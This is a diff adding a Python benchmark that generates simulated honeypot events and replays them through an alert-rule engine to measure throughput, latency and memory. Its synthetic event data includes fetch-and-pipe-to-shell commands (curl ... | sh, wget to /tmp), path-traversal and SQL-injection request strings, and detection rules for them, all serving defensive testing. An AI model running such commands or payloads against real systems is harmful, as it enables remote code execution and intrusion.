@@ -0,0 +1,493 @@
+#!/usr/bin/env python3
+"""
+告警规则回放基准
+生成（或加载）模拟的蜜罐事件流，按规则工作进程的方式（匹配 + 阈值/序列状态 + 生成告警行）
+全速回放，报告吞吐、逐事件延迟 p50/p99、各规则的匹配代价和内存占用。
+不访问数据库和网络，可用于在规则上线前评估性能影响
+
+事件流按狩猎模板的场景构造：SSH/RDP 暴力破解（部分成功后执行下载命令）、端口扫描、
+可疑进程创建、横向移动、持久化、数据渗出，夹杂大量普通的蜜罐交互噪声
+
+默认规则集对应狩猎模板；--rules 指定规则文件（JSON数组，元素含 id/name/severity/condition/description）。
+--candidate 指定待上线的规则文件时，分别回放 当前规则 与 当前规则+候选规则，
+吞吐下降超过 --max-regression 时以退出码 1 结束，可作为规则变更的检查
+
+用法:
+    python benchmarks/bench_rule_replay.py [--events 200000] [--rules rules.json]
+        [--candidate new_rules.json] [--max-regression 0.1]
+        [--events-file stream.jsonl] [--save-events stream.jsonl] [--output result.json]
+"""
+
+import argparse
+import json
+import random
+import resource
+import sys
+import time
+import tracemalloc
+from datetime import datetime, timedelta
+from pathlib import Path
+from types import SimpleNamespace
+
+# 添加项目根目录到Python路径
+project_root = Path(__file__).resolve().parent.parent
+sys.path.insert(0, str(project_root))
+
+from app.services.rule_engine import build_rule_set
+from app.services.rule_window import WindowStore
+from app.services.rule_worker import _alert_rows
+
+# 默认规则集（对应 /api/v1/hunting/templates 的狩猎模板）
+DEFAULT_RULES = [
+    {"id": 1, "name": "可疑进程创建", "severity": "medium", "condition": {"all": [
+        {"field": "event_type", "value": "process_creation"},
+        {"field": "raw_data.process_name", "op": "in", "value": ["powershell.exe", "cmd.exe", "wscript.exe"]},
+    ]}},
+    {"id": 2, "name": "下载并执行", "severity": "high", "condition": {"all": [
+        {"field": "event_type", "value": "process_creation"},
+        {"field": "description", "op": "regex", "value": r"(wget|curl)\s.*(/tmp/|/dev/shm/)"},
+    ]}},
+    {"id": 3, "name": "横向移动", "severity": "high", "condition": {"all": [
+        {"field": "event_type", "value": "network_connection"},
+        {"field": "destination_port", "op": "in", "value": [445, 3389, 5985]},
+        {"field": "source_ip", "op": "cidr", "value": "10.0.0.0/8"},
+    ]}},
+    {"id": 4, "name": "持久化机制", "severity": "medium", "condition": {
+        "field": "event_type", "op": "in", "value": ["registry_modification", "scheduled_task_creation"],
+    }},
+    {"id": 5, "name": "数据渗出", "severity": "critical", "condition": {"all": [
+        {"field": "event_type", "value": "network_connection"},
+        {"field": "raw_data.bytes_out", "op": "gte", "value": 10 * 1024 * 1024},
+        {"field": "raw_data.duration", "op": "gte", "value": 300},
+    ]}},
+    {"id": 6, "name": "暴力破解", "severity": "high", "condition": {
+        "field": "event_type", "value": "authentication_failure",
+        "threshold": {"count": 10, "window": "5m", "group_by": ["src_ip"]},
+    }},
+    {"id": 7, "name": "端口扫描", "severity": "medium", "condition": {
+        "field": "event_type", "value": "port_scan",
+        "threshold": {"count": 100, "window": "1m", "group_by": ["src_ip"]},
+    }},
+    {"id": 8, "name": "爆破成功后下载执行", "severity": "critical", "condition": {"sequence": {
+        "steps": [
+            {"field": "event_type", "value": "authentication_success"},
+            {"all": [{"field": "event_type", "value": "process_creation"},
+                     {"field": "description", "op": "contains", "value": "/tmp/"}]},
+        ],
+        "within": "10m",
+    }}},
+    {"id": 9, "name": "高危服务探测", "severity": "low", "condition": {"all": [
+        {"field": "event_type", "value": "honeypot_interaction"},
+        {"field": "destination_port", "op": "in", "value": [23, 6379, 9200, 27017]},
+    ]}},
+    {"id": 10, "name": "Web攻击载荷", "severity": "medium", "condition": {"all": [
+        {"field": "event_type", "value": "http_request"},
+        {"any": [
+            {"field": "description", "op": "contains", "value": "../"},
+            {"field": "description", "op": "contains", "value": "union select", "ignore_case": True},
+        ]},
+    ]}},
+]
+
+USERNAMES = ["root", "admin", "ubuntu", "test", "oracle", "postgres", "user", "administrator"]
+PASSWORDS = ["123456", "password", "admin", "root", "qwerty", "1qaz2wsx"]
+NOISE_TYPES = ["honeypot_interaction", "http_request", "dns_query", "syslog_message", "network_connection"]
+PORTS = [21, 22, 23, 80, 443, 445, 1433, 3306, 3389, 5900, 6379, 8080, 9200, 27017]
+HTTP_PATHS = ["/", "/index.php", "/wp-login.php", "/.env", "/admin", "/../../etc/passwd", "/?id=1 UNION SELECT 1,2"]
+COMMANDS = [
+    "wget http://198.51.100.7/x.sh -O /tmp/x.sh", "curl -s http://203.0.113.9/m | sh",
+    "uname -a", "cat /proc/cpuinfo", "chmod +x /tmp/x.sh", "ls -la",
+]
+WINDOWS_PROCESSES = ["powershell.exe", "cmd.exe", "svchost.exe", "explorer.exe", "wscript.exe", "notepad.exe"]
+
+class StreamGenerator:
+    """按攻击场景生成时间有序的事件流"""
+
+    def __init__(self, seed: int, start: datetime, span: float, assets: int = 50):
+        self.rng = random.Random(seed)
+        self.start = start
+        self.span = span
+        self.assets = assets
+        self.attackers = [self._public_ip() for _ in range(3000)]
+        self.items = []
+
+    def _public_ip(self) -> str:
+        rng = self.rng
+        return f"{rng.choice([45, 61, 103, 185, 193, 218])}.{rng.randint(0, 255)}.{rng.randint(0, 255)}.{rng.randint(1, 254)}"
+
+    def _add(self, offset: float, event: dict) -> None:
+        event["event_time"] = self.start + timedelta(seconds=offset)
+        event.setdefault("count", 1)
+        self.items.append((offset, event))
+
+    def _begin(self) -> float:
+        return self.rng.uniform(0, self.span)
+
+    def noise(self) -> int:
+        rng = self.rng
+        event_type = rng.choice(NOISE_TYPES)
+        port = rng.choice([80, 443]) if event_type == "http_request" else rng.choice(PORTS)
+        description = {
+            "http_request": f"GET {rng.choice(HTTP_PATHS)} HTTP/1.1",
+            "dns_query": f"query A {rng.randint(1, 9999)}.example.net",
+        }.get(event_type, f"session {rng.getrandbits(32):08x} closed")
+        self._add(self._begin(), {
+            "event_type": event_type, "asset_id": rng.randint(1, self.assets),
+            "source_ip": rng.choice(self.attackers), "destination_ip": "10.0.0.5",
+            "source_port": rng.randint(1024, 65535), "destination_port": port,
+            "protocol": "UDP" if event_type == "dns_query" else "TCP", "description": description,
+        })
+        return 1
+
+    def brute_force(self) -> int:
+        rng = self.rng
+        source_ip, asset_id = rng.choice(self.attackers), rng.randint(1, self.assets)
+        port = rng.choice([22, 22, 22, 3389])
+        offset = self._begin()
+        attempts = rng.randint(5, 150)
+        for _ in range(attempts):
+            offset += rng.uniform(0.2, 3.0)
+            user, password = rng.choice(USERNAMES), rng.choice(PASSWORDS)
+            self._add(offset, {
+                "event_type": "authentication_failure", "asset_id": asset_id, "source_ip": source_ip,
+                "destination_ip": "10.0.0.5", "destination_port": port, "protocol": "TCP",
+                "description": f"login attempt [{user}/{password}] failed",
+                "raw_data": {"username": user, "password": password},
+            })
+        if rng.random() > 0.1:
+            return attempts
+        # 少数爆破成功，随后执行命令
+        self._add(offset + 1, {
+            "event_type": "authentication_success", "asset_id": asset_id, "source_ip": source_ip,
+            "destination_port": port, "protocol": "TCP", "description": "login attempt [root/123456] succeeded",
+            "raw_data": {"username": "root"},
+        })
+        commands = rng.randint(1, 6)
+        for index in range(commands):
+            command = rng.choice(COMMANDS)
+            self._add(offset + 5 + index * rng.uniform(1, 30), {
+                "event_type": "process_creation", "asset_id": asset_id, "source_ip": source_ip,
+                "description": f"CMD: {command}", "raw_data": {"process_name": "bash", "input": command},
+            })
+        return attempts + 1 + commands
+
+    def port_scan(self) -> int:
+        rng = self.rng
+        source_ip, asset_id = rng.choice(self.attackers), rng.randint(1, self.assets)
+        offset = self._begin()
+        ports = rng.sample(range(1, 10000), rng.randint(50, 400))
+        for port in ports:
+            offset += rng.uniform(0.005, 0.1)
+            self._add(offset, {
+                "event_type": "port_scan", "asset_id": asset_id, "source_ip": source_ip,
+                "destination_ip": "10.0.0.5", "destination_port": port, "protocol": "TCP",
+                "description": f"SYN to port {port}",
+            })
+        return len(ports)
+
+    def process_creation(self) -> int:
+        rng = self.rng
+        asset_id = rng.randint(1, self.assets)
+        process = rng.choice(WINDOWS_PROCESSES)
+        command = f"{process} -nop -w hidden -enc {rng.getrandbits(64):016x}" if process == "powershell.exe" else process
+        self._add(self._begin(), {
+            "event_type": "process_creation", "asset_id": asset_id, "description": f"Process Create: {command}",
+            "raw_data": {"process_name": process, "command_line": command, "parent": rng.choice(["explorer.exe", "winword.exe"])},
+        })
+        return 1
+
+    def lateral_movement(self) -> int:
+        rng = self.rng
+        source = f"10.0.{rng.randint(0, 3)}.{rng.randint(2, 254)}"
+        offset = self._begin()
+        hops = rng.randint(1, 20)
+        for _ in range(hops):
+            offset += rng.uniform(1, 60)
+            port = rng.choice([445, 3389, 5985, 135])
+            self._add(offset, {
+                "event_type": "network_connection", "asset_id": rng.randint(1, self.assets), "source_ip": source,
+                "destination_ip": f"10.0.{rng.randint(0, 3)}.{rng.randint(2, 254)}", "destination_port": port,
+                "protocol": "TCP", "description": f"connection to internal host port {port}",
+            })
+        return hops
+
+    def persistence(self) -> int:
+        rng = self.rng
+        if rng.random() < 0.5:
+            event = {"event_type": "registry_modification", "description": "SetValue HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run",
+                     "raw_data": {"key": "HKLM\\Software\\Microsoft\\Windows\\CurrentVersion\\Run", "value": "updater"}}
+        else:
+            event = {"event_type": "scheduled_task_creation", "description": "schtasks /create /tn updater",
+                     "raw_data": {"task": "updater"}}
+        self._add(self._begin(), dict(event, asset_id=rng.randint(1, self.assets)))
+        return 1
+
+    def exfiltration(self) -> int:
+        rng = self.rng
+        self._add(self._begin(), {
+            "event_type": "network_connection", "asset_id": rng.randint(1, self.assets),
+            "source_ip": f"10.0.0.{rng.randint(2, 254)}", "destination_ip": self._public_ip(),
+            "destination_port": 443, "protocol": "TCP", "description": "outbound TLS session",
+            "raw_data": {"bytes_out": rng.choice([2048, 65536, 50 * 1024 * 1024]), "duration": rng.randint(1, 1200)},
+        })
+        return 1
+
+    def generate(self, count: int, noise_ratio: float = 0.6) -> list:
+        """生成 count 条事件（噪声按条数约占 noise_ratio），按事件时间排序并编号"""
+        rng = self.rng
+        scenarios = [
+            (self.brute_force, 0.3), (self.port_scan, 0.1), (self.process_creation, 0.25),
+            (self.lateral_movement, 0.15), (self.persistence, 0.1), (self.exfiltration, 0.1),
+        ]
+        generators, weights = zip(*scenarios)
+        produced = noise = 0
+        while produced < count:
+            if noise < produced * noise_ratio:
+                noise += self.noise()
+                produced += 1
+            else:
+                produced += rng.choices(generators, weights)[0]()
+        self.items.sort(key=lambda item: item[0])
+        events = [event for _, event in self.items[:count]]
+        for index, event in enumerate(events, 1):
+            event["id"] = index
+        return events
+
+def load_events(path: str) -> list:
+    """读取 JSON Lines 格式的事件流（event_time 为ISO时间）"""
+    events = []
+    with open(path, encoding="utf-8") as f:
+        for index, line in enumerate(f, 1):
+            if not line.strip():
+                continue
+            event = json.loads(line)
+            event.setdefault("id", index)
+            if isinstance(event.get("event_time"), str):
+                event["event_time"] = datetime.fromisoformat(event["event_time"])
+            events.append(event)
+    return events
+
+def save_events(path: str, events: list) -> None:
+    """事件流写入 JSON Lines 文件"""
+    with open(path, "w", encoding="utf-8") as f:
+        for event in events:
+            f.write(json.dumps(event, ensure_ascii=False, default=str) + "\n")
+
+def load_rules(path: str) -> list:
+    """读取规则文件（JSON数组）"""
+    with open(path, encoding="utf-8") as f:
+        return json.load(f)
+
+def _as_rules(definitions: list) -> list:
+    return [
+        SimpleNamespace(id=item["id"], name=item.get("name", f"rule-{item['id']}"),
+                        severity=item.get("severity", "medium"), description=item.get("description"),
+                        condition=item["condition"])
+        for item in definitions
+    ]
+
+def _percentile(sorted_values: list, fraction: float) -> float:
+    return sorted_values[min(len(sorted_values) - 1, int(len(sorted_values) * fraction))]
+
+def replay(rule_set, events: list, chunk_size: int) -> dict:
+    """按工作进程的分块方式全速回放，返回吞吐"""
+    windows = WindowStore()
+    windows.sync(rule_set.rules)
+    now = datetime.utcnow()
+    hits = alerts = 0
+    started = time.perf_counter()
+    for start in range(0, len(events), chunk_size):
+        matches = rule_set.match_batch(events[start:start + chunk_size])
+        hits += len(matches)
+        alerts += len(_alert_rows(matches, windows, now))
+    elapsed = time.perf_counter() - started
+    windows.expire()
+    return {"events_per_sec": len(events) / elapsed, "hits": hits, "alerts": alerts, "state": windows.stats()}
+
+def measure_latency(rule_set, events: list) -> dict:
+    """逐条事件计时（匹配 + 状态推进 + 生成告警行），单位微秒"""
+    windows = WindowStore()
+    windows.sync(rule_set.rules)
+    now = datetime.utcnow()
+    clock = time.perf_counter_ns
+    samples = []
+    for event in events:
+        started = clock()
+        _alert_rows([(event, rule) for rule in rule_set.match(event)], windows, now)
+        samples.append(clock() - started)
+    samples.sort()
+    return {
+        "p50_us": _percentile(samples, 0.50) / 1000,
+        "p99_us": _percentile(samples, 0.99) / 1000,
+        "max_us": samples[-1] / 1000,
+    }
+
+def measure_rule_costs(rule_set, events: list) -> list:
+    """
+    逐条规则单独求值的代价
+
+    实际匹配时同一桶的规则编译在一个函数中，单条规则的代价无法直接观测；
+    这里对每条规则只在其事件类型的事件上单独调用谓词计时，用于比较规则之间的相对代价
+    """
+    by_type = {}
+    for event in events:
+        by_type.setdefault(event.get("event_type"), []).append(event)
+
+    windows = WindowStore()
+    windows.sync(rule_set.rules)
+    costs = []
+    for rule in rule_set.rules:
+        candidates = events if rule.event_types is None else [
+            event for event_type in rule.event_types for event in by_type.get(event_type, ())
+        ]
+        predicate = rule.predicate
+        started = time.perf_counter_ns()
+        matched = [event for event in candidates if predicate(event)]
+        elapsed = time.perf_counter_ns() - started
+
+        state_ns = 0
+        if rule.stateful and matched:
+            started = time.perf_counter_ns()
+            for event in sorted(matched, key=lambda item: item["id"]):
+                windows.observe(rule, event)
+            state_ns = time.perf_counter_ns() - started
+        costs.append({
+            "id": rule.id,
+            "name": rule.name,
+            "evaluations": len(candidates),
+            "hits": len(matched),
+            "ns_per_eval": elapsed / len(candidates) if candidates else 0.0,
+            "total_ms": (elapsed + state_ns) / 1e6,
+        })
+    total = sum(item["total_ms"] for item in costs) or 1.0
+    for item in costs:
+        item["share"] = item["total_ms"] / total
+    return sorted(costs, key=lambda item: item["total_ms"], reverse=True)
+
+def measure_memory(definitions: list, events: list, chunk_size: int) -> dict:
+    """编译后的规则集和回放结束时状态（阈值窗口、序列部分匹配）占用的内存"""
+    tracemalloc.start()
+    before = tracemalloc.take_snapshot()
+    rule_set, _ = build_rule_set(_as_rules(definitions))
+    compiled = tracemalloc.take_snapshot()
+
+    windows = WindowStore()
+    windows.sync(rule_set.rules)
+    now = datetime.utcnow()
+    for start in range(0, len(events), chunk_size):
+        _alert_rows(rule_set.match_batch(events[start:start + chunk_size]), windows, now)
+    replayed = tracemalloc.take_snapshot()
+    tracemalloc.stop()
+
+    def delta(new, old):
+        return sum(stat.size_diff for stat in new.compare_to(old, "filename"))
+
+    return {
+        "rule_set_kb": delta(compiled, before) / 1024,
+        "state_kb": delta(replayed, compiled) / 1024,
+        # Linux 上 ru_maxrss 的单位为KB
+        "peak_rss_kb": resource.getrusage(resource.RUSAGE_SELF).ru_maxrss,
+    }
+
+def run(definitions: list, events: list, args) -> dict:
+    """对一个规则集执行全部测量"""
+    started = time.perf_counter()
+    rule_set, errors = build_rule_set(_as_rules(definitions))
+    compile_ms = (time.perf_counter() - started) * 1000
+
+    rule_set.match_batch(events[:1000])  # 预热
+    runs = [replay(rule_set, events, args.chunk_size) for _ in range(args.repeat)]
+    best = max(runs, key=lambda item: item["events_per_sec"])
+    result = {
+        "rules": len(rule_set),
+        "compile_errors": errors,
+        "compile_ms": compile_ms,
+        "events": len(events),
+        **best,
+        "latency": measure_latency(rule_set, events),
+        "rule_costs": measure_rule_costs(rule_set, events),
+    }
+    if not args.no_memory:
+        result["memory"] = measure_memory(definitions, events, args.chunk_size)
+    return result
+
+def report(title: str, result: dict, top: int) -> None:
+    """打印一次测量的结果"""
+    latency = result["latency"]
+    print(f"\n== {title} ==")
+    print(f"规则 {result['rules']} 条（编译失败 {len(result['compile_errors'])}），编译耗时 {result['compile_ms']:.1f}ms")
+    for rule_id, error in result["compile_errors"].items():
+        print(f"  规则 {rule_id} 编译失败: {error}")
+    print(f"吞吐:     {result['events_per_sec']:>12,.0f} 事件/秒   命中 {result['hits']:,} 次，告警 {result['alerts']:,} 条")
+    print(f"延迟:     p50 {latency['p50_us']:.1f}us   p99 {latency['p99_us']:.1f}us   max {latency['max_us']:.1f}us")
+    state = result["state"]
+    print(f"状态:     分组 {state['keys']:,}，部分匹配 {state['partial_matches']:,}，淘汰 {state['evicted']:,}")
+    if "memory" in result:
+        memory = result["memory"]
+        print(f"内存:     规则集 {memory['rule_set_kb']:,.0f}KB，回放后状态 {memory['state_kb']:,.0f}KB，"
+              f"进程峰值 RSS {memory['peak_rss_kb'] / 1024:,.0f}MB")
+    print(f"规则代价（前 {top} 条，单独求值）:")
+    print(f"  {'ID':>5}  {'求值次数':>10}  {'命中':>8}  {'ns/次':>8}  {'合计ms':>8}  {'占比':>6}  名称")
+    for item in result["rule_costs"][:top]:
+        print(f"  {item['id']:>5}  {item['evaluations']:>12,}  {item['hits']:>10,}  {item['ns_per_eval']:>10.0f}  "
+              f"{item['total_ms']:>10.1f}  {item['share']:>7.1%}  {item['name']}")
+
+def main():
+    """主函数"""
+    parser = argparse.ArgumentParser(description="告警规则回放基准")
+    parser.add_argument("--events", type=int, default=200000, help="生成的事件数")
+    parser.add_argument("--seed", type=int, default=1, help="事件流随机种子")
+    parser.add_argument("--rate", type=float, default=50.0, help="模拟事件流的平均速率（事件/秒），决定事件时间跨度")
+    parser.add_argument("--events-file", help="从 JSON Lines 文件加载事件流（不再生成）")
+    parser.add_argument("--save-events", help="把生成的事件流保存为 JSON Lines 文件")
+    parser.add_argument("--rules", help="规则文件（JSON数组），默认使用内置的狩猎模板规则")
+    parser.add_argument("--candidate", help="待上线的规则文件，与当前规则集对比")
+    parser.add_argument("--max-regression", type=float, default=0.1, help="允许的吞吐下降比例")
+    parser.add_argument("--chunk-size", type=int, default=1000, help="每块事件数（与 RULE_ENGINE_CHUNK_SIZE 对应）")
+    parser.add_argument("--repeat", type=int, default=3, help="吞吐测量次数（取最好的一次）")
+    parser.add_argument("--top", type=int, default=10, help="显示代价最高的规则数")
+    parser.add_argument("--no-memory", action="store_true", help="跳过内存测量（tracemalloc 较慢）")
+    parser.add_argument("--output", help="结果写入JSON文件")
+    args = parser.parse_args()
+
+    if args.events_file:
+        events = load_events(args.events_file)
+    else:
+        generator = StreamGenerator(args.seed, datetime(2024, 5, 1), args.events / args.rate)
+        events = generator.generate(args.events)
+        if args.save_events:
+            save_events(args.save_events, events)
+    types = {}
+    for event in events:
+        types[event["event_type"]] = types.get(event["event_type"], 0) + 1
+    span = (events[-1]["event_time"] - events[0]["event_time"]).total_seconds() if events else 0
+    print(f"事件 {len(events):,} 条，时间跨度 {span / 3600:.1f} 小时: "
+          + "，".join(f"{name} {count:,}" for name, count in sorted(types.items(), key=lambda item: -item[1])))
+
+    definitions = load_rules(args.rules) if args.rules else DEFAULT_RULES
+    results = {"current": run(definitions, events, args)}
+    report("当前规则", results["current"], args.top)
+
+    exit_code = 0
+    if args.candidate:
+        candidate = definitions + load_rules(args.candidate)
+        results["candidate"] = run(candidate, events, args)
+        report("当前规则 + 候选规则", results["candidate"], args.top)
+
+        change = results["candidate"]["events_per_sec"] / results["current"]["events_per_sec"] - 1
+        p99_change = results["candidate"]["latency"]["p99_us"] / max(results["current"]["latency"]["p99_us"], 1e-9) - 1
+        print(f"\n吞吐变化 {change:+.1%}，p99 延迟变化 {p99_change:+.1%}")
+        if results["candidate"]["compile_errors"]:
+            print("候选规则编译失败")
+            exit_code = 1
+        if change < -args.max_regression:
+            print(f"吞吐下降超过 {args.max_regression:.0%}")
+            exit_code = 1
+
+    if args.output:
+        with open(args.output, "w", encoding="utf-8") as f:
+            json.dump(results, f, ensure_ascii=False, indent=2, default=str)
+    sys.exit(exit_code)
+
+if __name__ == "__main__":
+    main()